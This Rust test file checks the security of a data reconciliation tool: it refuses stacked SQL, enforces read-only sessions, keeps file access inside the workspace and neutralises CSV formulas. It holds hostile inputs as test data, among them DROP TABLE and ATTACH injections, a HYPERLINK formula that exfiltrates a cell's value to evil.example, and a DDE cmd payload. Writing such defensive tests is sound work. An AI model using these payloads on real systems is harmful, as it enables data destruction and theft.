//! An asset's SQL reads and nothing else: stacked statements are refused, writes smuggled
//! into a read fail because every session is read-only, only connection variables are read,
//! local files stay inside the workspace and the keys CSV holds no live formulas.

use crate::common::*;
use flowgate_model::{
    ColumnMapping, KeyPart, Located, ReconcileSource, Reconciliation, SecretRef, SideColumn,
    ValueType,
};
use flowgate_reconcile::db::Db;
use flowgate_reconcile::{Report, RunOptions, Tuning};
use std::path::{Path, PathBuf};

/// Rows in a table, read on a writable connection.
async fn count(db: &Db, table: &str) -> String {
    let rows = db
        .rows(&format!("SELECT CAST(COUNT(*) AS CHAR) FROM {table}"))
        .await
        .unwrap_or_else(|e| panic!("{table} must still exist: {e}"));
    rows[0][0].clone().unwrap()
}

#[test]
fn a_stacked_statement_in_a_filter_is_refused_and_the_table_survives() {
    runtime().block_on(async {
        let Some(l) = landscape("sec_stacked", 20, 10, false).await else {
            return;
        };
        let shop = Db::connect("shop", &l.shop_url).await.unwrap();
        let erp = Db::connect("erp", &l.erp_url).await.unwrap();
        let erp_orders = format!("{}.orders", l.name);
        let (shop_before, erp_before) = (
            count(&shop, "sales_order").await,
            count(&erp, &erp_orders).await,
        );

        for (filter, at) in [
            ("store_id > 0; DROP TABLE sales_order", "`;` outside quotes"),
            ("1=1); DROP TABLE sales_order; SELECT (1", "`)` closes"),
        ] {
            let mut spec = orders_spec(&l, false);
            spec.left.filter = Some(filter.to_owned());
            let err = run_in(&spec, &run_options(&l), Path::new("."))
                .await
                .expect_err("a filter with a second statement is refused");
            let message = err.to_string();
            assert!(message.starts_with("left.filter: "), "{message}");
            assert!(message.contains(at), "{message}");
        }

        let mut spec = orders_spec(&l, true);
        spec.right.filter = Some(format!("true); DROP TABLE {erp_orders}; SELECT (true"));
        let err = run_in(&spec, &run_options(&l), Path::new("."))
            .await
            .expect_err("a filter with a second statement is refused");
        assert!(err.to_string().starts_with("right.filter: "), "{err}");

        // Below the check, the protocol runs one statement only.
        for (url, table) in [(&l.shop_url, "sales_order"), (&l.erp_url, &erp_orders)] {
            let reader = Db::connect_read_only("left", url).await.unwrap();
            let stacked = format!("SELECT 'x'; DROP TABLE {table}");
            assert!(reader.rows(&stacked).await.is_err(), "{url}: {stacked}");
            reader.close().await;
        }
        assert_eq!(count(&shop, "sales_order").await, shop_before);
        assert_eq!(count(&erp, &erp_orders).await, erp_before);
        shop.close().await;
        erp.close().await;
        drop_landscape(&l).await;
    });
}

#[test]
fn a_write_smuggled_into_a_mysql_read_fails_because_the_session_is_read_only() {
    runtime().block_on(async {
        let Some(l) = landscape("sec_write_mysql", 20, 10, false).await else {
            return;
        };
        let shop = Db::connect("shop", &l.shop_url).await.unwrap();
        shop.execute(
            "CREATE TABLE sec_log (n INT); \
             CREATE FUNCTION sec_write() RETURNS INT MODIFIES SQL DATA \
             BEGIN INSERT INTO sec_log VALUES (1); RETURN 1; END",
        )
        .await
        .unwrap();
        let mut spec = orders_spec(&l, false);
        spec.left.filter = Some("sec_write() > 0".to_owned());
        let err = run_in(&spec, &run_options(&l), Path::new("."))
            .await
            .expect_err("a write in a read-only session fails the run");
        assert!(err.to_string().contains("READ ONLY"), "{err}");

        let reader = Db::connect_read_only("left", &l.shop_url).await.unwrap();
        for write in [
            "INSERT INTO sec_log VALUES (2)",
            "SELECT CAST(sec_write() AS CHAR)",
        ] {
            let err = reader.rows(write).await.expect_err(write);
            assert!(err.to_string().contains("READ ONLY"), "{write}: {err}");
        }
        assert!(reader.execute("DELETE FROM sales_order").await.is_err());
        reader.close().await;
        assert_eq!(count(&shop, "sec_log").await, "0");
        assert_eq!(count(&shop, "sales_order").await, "20");
        shop.close().await;
        drop_landscape(&l).await;
    });
}

#[test]
fn a_write_smuggled_into_a_postgres_read_fails_because_the_session_is_read_only() {
    runtime().block_on(async {
        let Some(l) = landscape("sec_write_pg", 20, 10, false).await else {
            return;
        };
        let s = &l.name;
        let erp = Db::connect("erp", &l.erp_url).await.unwrap();
        erp.execute(&format!(
            "CREATE TABLE {s}.sec_log (n int); \
             CREATE FUNCTION {s}.sec_write() RETURNS int LANGUAGE plpgsql AS \
             $$ BEGIN INSERT INTO {s}.sec_log VALUES (1); RETURN 1; END $$"
        ))
        .await
        .unwrap();
        let mut spec = orders_spec(&l, false);
        spec.right.filter = Some(format!("{s}.sec_write() > 0"));
        let err = run_in(&spec, &run_options(&l), Path::new("."))
            .await
            .expect_err("a write in a read-only session fails the run");
        assert!(err.to_string().contains("read-only transaction"), "{err}");

        let reader = Db::connect_read_only("right", &l.erp_url).await.unwrap();
        // Turning the session default off does not reach the next query's transaction.
        reader
            .rows("SELECT set_config('default_transaction_read_only', 'off', false)")
            .await
            .unwrap();
        for write in [
            format!("WITH w AS (INSERT INTO {s}.sec_log VALUES (2) RETURNING n) SELECT (n)::text FROM w"),
            format!("SELECT ({s}.sec_write())::text"),
            format!("SELECT (set_config('transaction_read_only', 'off', false) || {s}.sec_write())::text"),
        ] {
            let err = reader.rows(&write).await.expect_err(&write);
            assert!(err.to_string().contains("read-only") || err.to_string().contains("read-write"), "{write}: {err}");
        }
        reader.close().await;
        assert_eq!(count(&erp, &format!("{s}.sec_log")).await, "0");
        erp.close().await;
        drop_landscape(&l).await;
    });
}

#[test]
fn only_connection_variables_are_read() {
    let secret = |name: &str| SecretRef::parse(&format!("env:{name}")).unwrap();
    for name in [
        "AWS_SECRET_ACCESS_KEY",
        "GITHUB_TOKEN",
        "FLOWGATE_STORE",
        "FLOWGATE_STORE_URL",
        "HOME",
    ] {
        let err = flowgate_reconcile::resolve_url("left", &secret(name))
            .expect_err("a variable outside the convention is refused");
        let message = err.to_string();
        assert!(message.contains("not a connection variable"), "{message}");
        assert!(message.contains("_URL"), "{message}");
    }
    for name in ["FG_SEC_UNSET_DB_URL", "FG_SEC_UNSET_DSN"] {
        let err = flowgate_reconcile::resolve_url("left", &secret(name))
            .expect_err("the variable is not set");
        assert!(err.to_string().contains("is not set"), "{err}");
    }
    assert!(flowgate_reconcile::connection_variable("MAGENTO_DB_URL").is_ok());
    assert!(flowgate_reconcile::connection_variable("ERP_DB_URL").is_ok());
}

fn text(column: &str) -> SideColumn {
    SideColumn {
        column: column.to_owned(),
        ..SideColumn::default()
    }
}

fn local_source(table: &str) -> ReconcileSource {
    ReconcileSource {
        url: Located::unlocated(SecretRef::parse("env:UNUSED_URL").unwrap()),
        table: Some(table.to_owned()),
        query: None,
        filter: None,
        watermark: None,
        timezone: None,
    }
}

/// Customers by id, comparing emails.
fn customers_spec() -> Reconciliation {
    Reconciliation {
        left: local_source("customers"),
        right: local_source("customers"),
        key: vec![KeyPart {
            value_type: ValueType::Integer,
            left: text("id"),
            right: text("id"),
        }],
        segment_by: None,
        columns: vec![ColumnMapping {
            name: "email".to_owned(),
            value_type: ValueType::Text,
            scale: None,
            tolerance: None,
            left: text("email"),
            right: text("email"),
        }],
        grace: None,
        aggregates: Vec::new(),
        drift: None,
    }
}

fn local_options(left: &Path, right: &Path) -> RunOptions {
    RunOptions {
        name: "customers".to_owned(),
        left_url: format!("sqlite:{}", left.display()),
        right_url: format!("csv:{}", right.display()),
        tuning: Tuning::default(),
        now: None,
        fingerprint: "customers".to_owned(),
        resume_from: None,
    }
}

/// A SQLite database with a `customers` table.
async fn write_sqlite(path: &Path, rows: &[(i64, &str)]) {
    use sqlx::sqlite::{SqliteConnectOptions, SqlitePoolOptions};
    let options = SqliteConnectOptions::new()
        .filename(path)
        .create_if_missing(true);
    let pool = SqlitePoolOptions::new()
        .max_connections(1)
        .connect_with(options)
        .await
        .unwrap();
    sqlx::raw_sql("CREATE TABLE customers (id INTEGER, email TEXT)")
        .execute(&pool)
        .await
        .unwrap();
    for (id, email) in rows {
        sqlx::query("INSERT INTO customers VALUES (?, ?)")
            .bind(id)
            .bind(email)
            .execute(&pool)
            .await
            .unwrap();
    }
    pool.close().await;
}

fn write_csv(path: &Path, rows: &[(i64, &str)]) {
    let mut w = csv::Writer::from_path(path).unwrap();
    w.write_record(["id", "email"]).unwrap();
    for (id, email) in rows {
        w.write_record([id.to_string().as_str(), email]).unwrap();
    }
    w.flush().unwrap();
}

const CUSTOMERS: [(i64, &str); 2] = [(1, "a@example.com"), (2, "b@example.com")];

async fn run_local(spec: &Reconciliation, options: &RunOptions, ws: &Path) -> Report {
    run_in(spec, options, ws).await.unwrap()
}

/// The message of the error a run must end with.
async fn refusal(spec: &Reconciliation, options: &RunOptions, ws: &Path) -> String {
    match run_in(spec, options, ws).await {
        Ok(_) => panic!("{}: the run must be refused", options.left_url),
        Err(e) => e.to_string(),
    }
}

/// A workspace holding `shop.db` and `customers.csv` with these customers.
async fn local_workspace(
    shop: &[(i64, &str)],
    csv: &[(i64, &str)],
) -> (tempfile::TempDir, PathBuf, PathBuf) {
    let ws = tempfile::tempdir().unwrap();
    let shop_path = ws.path().join("shop.db");
    let csv_path = ws.path().join("customers.csv");
    write_sqlite(&shop_path, shop).await;
    write_csv(&csv_path, csv);
    (ws, shop_path, csv_path)
}

#[test]
fn local_files_outside_the_workspace_are_refused_even_through_a_link() {
    runtime().block_on(async {
        let (ws, inside_db, csv) = local_workspace(&CUSTOMERS, &CUSTOMERS).await;
        let outside = tempfile::tempdir().unwrap();
        let outside_db = outside.path().join("store.db");
        write_sqlite(&outside_db, &CUSTOMERS).await;
        let spec = customers_spec();

        let report = run_local(&spec, &local_options(&inside_db, &csv), ws.path()).await;
        assert_eq!(report.differences(), 0);

        let linked_file = ws.path().join("linked.db");
        std::os::unix::fs::symlink(&outside_db, &linked_file).unwrap();
        let linked_dir = ws.path().join("elsewhere");
        std::os::unix::fs::symlink(outside.path(), &linked_dir).unwrap();
        for path in [
            outside_db.clone(),
            ws.path()
                .join("..")
                .join(outside.path().file_name().unwrap())
                .join("store.db"),
            linked_file,
            linked_dir.join("store.db"),
        ] {
            let message = refusal(&spec, &local_options(&path, &csv), ws.path()).await;
            assert!(message.starts_with("left: "), "{message}");
            assert!(message.contains("outside the workspace"), "{message}");
        }
        let outside_csv = outside.path().join("customers.csv");
        write_csv(&outside_csv, &CUSTOMERS);
        let err = refusal(&spec, &local_options(&inside_db, &outside_csv), ws.path()).await;
        assert!(err.contains("outside the workspace"), "{err}");
    });
}

#[test]
fn a_stacked_attach_on_a_sqlite_side_is_refused() {
    runtime().block_on(async {
        let (ws, shop, csv) = local_workspace(&CUSTOMERS, &CUSTOMERS).await;
        let store = ws.path().join("store.db");
        write_sqlite(&store, &[(1, "secret@store.example")]).await;
        let mut spec = customers_spec();
        spec.left.filter = Some(format!(
            "1=1); ATTACH DATABASE '{}' AS m; SELECT ('1'",
            store.display()
        ));
        let err = refusal(&spec, &local_options(&shop, &csv), ws.path()).await;
        assert!(err.starts_with("left.filter: "), "{err}");

        let mut spec = customers_spec();
        spec.left.query =
            Some("SELECT id, email FROM customers; ATTACH DATABASE 'x' AS m".to_owned());
        spec.left.table = None;
        let err = refusal(&spec, &local_options(&shop, &csv), ws.path()).await;
        assert!(err.starts_with("left.query: "), "{err}");
    });
}

#[test]
fn formula_cells_in_the_keys_csv_are_neutralised() {
    runtime().block_on(async {
        let hostile = "=HYPERLINK(\"http://evil.example/?x=\"&D2,\"open\")";
        let (ws, shop, csv) = local_workspace(
            &[(1, hostile), (2, "@SUM(1+9)*cmd|' /C calc'!A0")],
            &[(1, "a@example.com"), (2, "-1+1"), (3, "+x")],
        )
        .await;
        let report = run_local(&customers_spec(), &local_options(&shop, &csv), ws.path()).await;
        let keys = report.keys_csv();
        let mut reader = csv::Reader::from_reader(keys.as_bytes());
        let cells: Vec<String> = reader
            .records()
            .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
            .collect();
        assert!(cells.contains(&format!("'{hostile}")), "{keys}");
        assert!(
            cells.contains(&"'@SUM(1+9)*cmd|' /C calc'!A0".to_owned()),
            "{keys}"
        );
        assert!(cells.contains(&"'-1+1".to_owned()), "{keys}");
        let live = cells
            .iter()
            .filter(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r']))
            .count();
        assert_eq!(live, 0, "{keys}");
    });
}
